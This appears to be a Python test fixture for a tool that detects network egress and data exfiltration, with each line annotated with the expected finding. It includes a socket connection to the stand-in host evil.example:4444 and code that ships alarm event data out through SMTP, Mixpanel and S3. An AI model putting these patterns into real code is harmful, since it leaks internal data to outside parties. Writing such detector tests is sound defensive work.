import ftplib
import smtplib
import socket

import boto3
import mixpanel
import paramiko
import sentry_sdk
import websockets


async def handle(client, data):
    events = client.events.list(type="alarm", limit=100)
    socket.create_connection(("evil.example", 4444))  # want: network-egress:medium egress=evil.example
    ftp = ftplib.FTP("ftp.example.com")  # want: network-egress:medium egress=ftp.example.com
    ftp.quit()
    mail = smtplib.SMTP("smtp.example.com", 587)  # want: network-egress:medium egress=smtp.example.com
    mail.sendmail("a@example.com", ["b@example.com"], str([e.description for e in events]))  # want: data-exfiltration:high network-egress egress=smtp.example.com
    ssh = paramiko.SSHClient()
    ssh.connect(hostname="10.0.0.5", username="ops")  # want: network-egress:medium egress=10.0.0.5
    await websockets.connect("wss://stream.example.net/ws")  # want: network-egress:medium egress=stream.example.net
    mp = mixpanel.Mixpanel("0123456789abcdef")  # want: network-egress:medium egress=api.mixpanel.com
    mp.track("fn", "alarms", {"items": [e.dump() for e in events]})  # want: data-exfiltration:high network-egress
    sentry_sdk.init(dsn="https://abc@o1.ingest.sentry.io/1")  # want: network-egress:medium egress=o1.ingest.sentry.io
    s3 = boto3.client("s3", region_name="eu-west-1")  # want: egress=s3.amazonaws.com
    s3.put_object(Bucket="archive", Key="alarms.json", Body=str([e.dump() for e in events]))  # want: data-exfiltration:high
    return {}
